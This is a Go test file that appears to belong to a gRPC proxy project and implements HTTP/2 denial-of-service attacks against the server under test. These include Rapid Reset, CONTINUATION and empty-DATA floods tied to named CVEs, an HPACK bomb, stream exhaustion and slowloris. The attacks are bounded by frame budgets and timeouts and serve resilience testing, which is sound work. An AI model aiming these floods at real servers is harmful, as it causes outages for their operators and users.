package test

import (
	"bytes"
	"context"
	"fmt"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/meshd/meshd/internal/testkit/h2raw"
)

// The attacks. Each runs one misbehaving connection against addr until ctx
// ends, the server closes the connection, or the attack's own frame budget
// is spent (every flood is bounded in count as well as time). It returns
// the connection so the caller can read what the server answered.

const (
	methodEmpty       = "/grpc.testing.TestService/EmptyCall"
	methodStreamInput = "/grpc.testing.TestService/StreamingInputCall"
	// floodBatch frames are buffered between flushes.
	floodBatch = 64
	// floodMax bounds the frames one flooding connection sends.
	floodMax = 200_000
)

type attackFunc func(ctx context.Context, addr string, opt attackOpts) (*h2raw.Recorder, error)

// attackOpts are the listener limits an attack needs to know, and when it
// may stop waiting.
type attackOpts struct {
	maxStreams        int // the listener's max_concurrent_streams
	maxHeaderListSize int // the listener's max_header_list_size
	// answered, when set, says that meshd's answer is complete: an attack
	// that waits for the answer (or holds its connection) returns as soon
	// as it holds, rather than when ctx ends. Nil: wait for ctx, the end
	// of the connection or the attack's own bound.
	answered func(h2raw.Result) bool
}

// flood writes frames produced by one(i) in batches until ctx ends, a write
// fails (the server closed the connection) or floodMax frames are sent.
func flood(ctx context.Context, c *h2raw.Recorder, one func(fr *http2.Framer, i int) error) {
	deadline, ok := ctx.Deadline()
	if !ok {
		deadline = time.Now().Add(5 * time.Second)
	}
	for i := 0; i < floodMax && ctx.Err() == nil; {
		err := c.Queue(func(fr *http2.Framer) error {
			for j := 0; j < floodBatch; j, i = j+1, i+1 {
				if err := one(fr, i); err != nil {
					return err
				}
			}
			return nil
		})
		if err != nil || c.FlushBy(deadline) != nil {
			return
		}
		select {
		case <-c.Done():
			return
		default:
		}
	}
}

// rapidReset opens streams and cancels each at once (CVE-2023-44487).
func rapidReset(ctx context.Context, addr string, _ attackOpts) (*h2raw.Recorder, error) {
	c, err := h2raw.Handshake(addr)
	if err != nil {
		return nil, err
	}
	flood(ctx, c, func(fr *http2.Framer, _ int) error {
		id := c.NewStream()
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.EncodeHeaders(h2raw.Request(methodEmpty)), EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		return fr.WriteRSTStream(id, http2.ErrCodeCancel)
	})
	return c, nil
}

func pingFlood(ctx context.Context, addr string, _ attackOpts) (*h2raw.Recorder, error) {
	c, err := h2raw.Handshake(addr)
	if err != nil {
		return nil, err
	}
	flood(ctx, c, func(fr *http2.Framer, i int) error {
		return fr.WritePing(false, [8]byte{byte(i >> 8), byte(i)})
	})
	return c, nil
}

func settingsFlood(ctx context.Context, addr string, _ attackOpts) (*h2raw.Recorder, error) {
	c, err := h2raw.Handshake(addr)
	if err != nil {
		return nil, err
	}
	flood(ctx, c, func(fr *http2.Framer, _ int) error {
		return fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	})
	return c, nil
}

// emptyDataFlood opens a call and sends empty DATA frames on it without
// ever ending it (CVE-2019-9518).
func emptyDataFlood(ctx context.Context, addr string, _ attackOpts) (*h2raw.Recorder, error) {
	c, err := h2raw.Handshake(addr)
	if err != nil {
		return nil, err
	}
	id, err := c.QueueRequest(methodStreamInput, false)
	if err != nil {
		return c, nil
	}
	flood(ctx, c, func(fr *http2.Framer, _ int) error { return fr.WriteData(id, false, nil) })
	return c, nil
}

// windowUpdateFlood sends connection WINDOW_UPDATEs of 1 byte (they add up
// to far below the 2^31-1 limit: the server has no protocol reason to
// object).
func windowUpdateFlood(ctx context.Context, addr string, _ attackOpts) (*h2raw.Recorder, error) {
	c, err := h2raw.Handshake(addr)
	if err != nil {
		return nil, err
	}
	flood(ctx, c, func(fr *http2.Framer, _ int) error { return fr.WriteWindowUpdate(0, 1) })
	return c, nil
}

// sensitiveFields HPACK-encodes n never-indexed fields of size bytes each,
// so the block leaves the dynamic table alone and may be sent or not.
func sensitiveFields(n, size int, tag string) []byte {
	fields := make([]hpack.HeaderField, n)
	v := strings.Repeat("v", size)
	for i := range fields {
		fields[i] = hpack.HeaderField{Name: fmt.Sprintf("x-%s-%d", tag, i), Value: v, Sensitive: true}
	}
	return h2raw.Block(fields...)
}

// continuationFlood starts a request and never ends its header block:
// CONTINUATION frames of fresh header fields follow until the server
// objects (CVE-2024-27316, CVE-2023-45288).
func continuationFlood(ctx context.Context, addr string, _ attackOpts) (*h2raw.Recorder, error) {
	c, err := h2raw.Handshake(addr)
	if err != nil {
		return nil, err
	}
	frag := sensitiveFields(4, 4000, "cont") // ~16 KB, one frame
	id, err := openHeaderBlock(c)
	if err != nil {
		return c, nil
	}
	flood(ctx, c, func(fr *http2.Framer, _ int) error { return fr.WriteContinuation(id, false, frag) })
	return c, nil
}

// openHeaderBlock queues HEADERS for a new call whose header block does not
// end (no END_HEADERS): only CONTINUATION frames may follow.
func openHeaderBlock(c *h2raw.Recorder) (uint32, error) {
	id := c.NewStream()
	block := c.EncodeHeaders(h2raw.Request(methodEmpty))
	return id, c.Queue(func(fr *http2.Framer) error {
		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true})
	})
}

// emptyContinuationFlood is continuationFlood with empty fragments, which a
// size limit on the header list never sees.
func emptyContinuationFlood(ctx context.Context, addr string, _ attackOpts) (*h2raw.Recorder, error) {
	c, err := h2raw.Handshake(addr)
	if err != nil {
		return nil, err
	}
	id, err := openHeaderBlock(c)
	if err != nil {
		return c, nil
	}
	flood(ctx, c, func(fr *http2.Framer, _ int) error { return fr.WriteContinuation(id, false, nil) })
	return c, nil
}

// oversizedHeaders sends one complete request whose header list is twice
// the listener's limit, then waits for the answer.
func oversizedHeaders(ctx context.Context, addr string, opt attackOpts) (*h2raw.Recorder, error) {
	c, err := h2raw.Handshake(addr)
	if err != nil {
		return nil, err
	}
	extra := sensitiveFields(2*opt.maxHeaderListSize/4000+1, 4000, "big")
	id := c.NewStream()
	block := append(c.EncodeHeaders(h2raw.Request(methodEmpty)), extra...)
	err = c.Queue(func(fr *http2.Framer) error {
		const chunk = 16 << 10
		first := block[:chunk]
		block = block[chunk:]
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndStream: true}); err != nil {
			return err
		}
		for len(block) > 0 {
			n := min(chunk, len(block))
			if err := fr.WriteContinuation(id, n == len(block), block[:n]); err != nil {
				return err
			}
			block = block[n:]
		}
		return nil
	})
	if err == nil {
		_ = c.Flush()
	}
	waitCtx(ctx, c, opt, 2*time.Second)
	return c, nil
}

// oversizedIndexedHeaders sends a small header block that decodes to a
// list far over the limit: one field added to the dynamic table, then
// referenced by its one-byte index thousands of times (an HPACK bomb).
// The connection stays usable: the stream alone is refused.
func oversizedIndexedHeaders(ctx context.Context, addr string, opt attackOpts) (*h2raw.Recorder, error) {
	c, err := h2raw.Handshake(addr)
	if err != nil {
		return nil, err
	}
	id := c.NewStream()
	block := c.EncodeHeaders(h2raw.Request(methodEmpty, "x-bomb", strings.Repeat("b", 1000)))
	// The field just added is dynamic-table entry 62: indexed
	// representation 0x80|62.
	reps := 2*opt.maxHeaderListSize/1000 + 1
	block = append(block, bytes.Repeat([]byte{0x80 | 62}, reps)...)
	err = c.Queue(func(fr *http2.Framer) error {
		return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
	})
	if err == nil {
		_ = c.Flush()
	}
	waitCtx(ctx, c, opt, 2*time.Second)
	return c, nil
}

// tooManyStreams opens 50 more streams than the listener advertises and
// holds them open (calls waiting for a request message).
func tooManyStreams(ctx context.Context, addr string, opt attackOpts) (*h2raw.Recorder, error) {
	c, err := h2raw.Handshake(addr)
	if err != nil {
		return nil, err
	}
	for i := 0; i < opt.maxStreams+50; i++ {
		if _, err := c.QueueRequest(methodStreamInput, false); err != nil {
			return c, nil
		}
	}
	if c.Flush() != nil {
		return c, nil
	}
	// Hold the streams (calls waiting at the backend) for the phase.
	waitCtx(ctx, c, opt, time.Minute)
	return c, nil
}

// garbage sends bytes that are not HTTP/2 at all.
func garbage(ctx context.Context, addr string, opt attackOpts) (*h2raw.Recorder, error) {
	tc, err := h2raw.DialTCP(addr)
	if err != nil {
		return nil, err
	}
	c := h2raw.Record(tc)
	junk := bytes.Repeat([]byte{0xde, 0xad, 0xbe, 0xef, 0x00, 0xff, 0x13, 0x37}, 512)
	if c.QueueRaw(junk) == nil {
		_ = c.Flush()
	}
	waitCtx(ctx, c, opt, 2*time.Second)
	return c, nil
}

// http1 speaks HTTP/1.1 to the gRPC port.
func http1(ctx context.Context, addr string, opt attackOpts) (*h2raw.Recorder, error) {
	tc, err := h2raw.DialTCP(addr)
	if err != nil {
		return nil, err
	}
	c := h2raw.Record(tc)
	req := "POST " + methodEmpty + " HTTP/1.1\r\nHost: meshd.test\r\nContent-Type: application/grpc\r\nTE: trailers\r\nContent-Length: 5\r\n\r\n\x00\x00\x00\x00\x00"
	if c.QueueRaw([]byte(req)) == nil {
		_ = c.Flush()
	}
	waitCtx(ctx, c, opt, 2*time.Second)
	return c, nil
}

// prefaceThenJunk sends a valid preface and SETTINGS, then junk whose
// first three bytes read as a frame length far over any frame size limit.
func prefaceThenJunk(ctx context.Context, addr string, opt attackOpts) (*h2raw.Recorder, error) {
	c, err := h2raw.Handshake(addr)
	if err != nil {
		return nil, err
	}
	if c.QueueRaw(bytes.Repeat([]byte("junk!"), 1000)) == nil {
		_ = c.Flush()
	}
	waitCtx(ctx, c, opt, 2*time.Second)
	return c, nil
}

// slowloris sends the client preface one byte a second.
func slowloris(ctx context.Context, addr string, _ attackOpts) (*h2raw.Recorder, error) {
	tc, err := h2raw.DialTCP(addr)
	if err != nil {
		return nil, err
	}
	c := h2raw.Record(tc)
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for i := 0; i < len(http2.ClientPreface); i++ {
		if c.WriteRaw([]byte{http2.ClientPreface[i]}) != nil {
			break
		}
		select {
		case <-ctx.Done():
			return c, nil
		case <-c.Done():
			return c, nil
		case <-tick.C:
		}
	}
	return c, nil
}

// waitCtx waits until c ends, ctx ends, d passes or opt.answered holds.
func waitCtx(ctx context.Context, c *h2raw.Recorder, opt attackOpts, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	for opt.answered == nil || !opt.answered(c.Result()) {
		select {
		case <-ctx.Done():
			return
		case <-c.Done():
			return
		case <-t.C:
			return
		case <-c.Changed():
		}
	}
}
